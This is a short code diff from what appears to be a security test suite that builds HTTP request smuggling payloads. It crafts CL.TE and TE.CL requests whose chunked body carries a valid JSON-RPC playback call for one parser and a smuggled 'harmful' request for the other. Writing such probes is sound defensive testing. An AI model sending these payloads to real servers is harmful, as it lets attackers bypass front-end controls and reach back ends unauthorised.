@@ -44,7 +44,9 @@ attack('HTTP', [
         ...more,
       ]
       const inner = harmful(house)
-      const chunked = (ending: string) => `0${ending}\r\n${inner}`
+      // A good body for whoever takes it for chunked, and another request for whoever does not.
+      const fine = '{"jsonrpc":"2.0","id":1,"method":"core.playback.get_state"}'
+      const chunked = (ending: string) => `${fine.length.toString(16)}\r\n${fine}\r\n0${ending}\r\n${inner}`
       const tries: string[] = [
         // CL.TE, TE.CL, and every spelling of chunked
         lines(head('Content-Length: 6', 'Transfer-Encoding: chunked'), chunked('\r\n')),
